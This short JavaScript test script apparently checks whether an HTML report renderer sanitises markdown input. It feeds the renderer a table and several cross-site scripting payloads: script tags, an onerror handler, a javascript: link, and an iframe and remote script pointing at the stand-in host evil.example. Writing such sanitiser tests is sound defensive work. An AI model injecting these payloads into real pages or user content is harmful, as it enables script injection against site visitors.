import { renderHtmlReport } from "../shared/tools/writeReport.js";
const content = ["| a |","|---|","| n |","<script>alert('x')</script>", '<img src="x" onerror="alert(1)">', "[click](javascript:alert(1))", '<iframe src="https://evil.example"></iframe>', "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>"].join("\n");
console.log(renderHtmlReport("t", content).split("<body>")[1]);
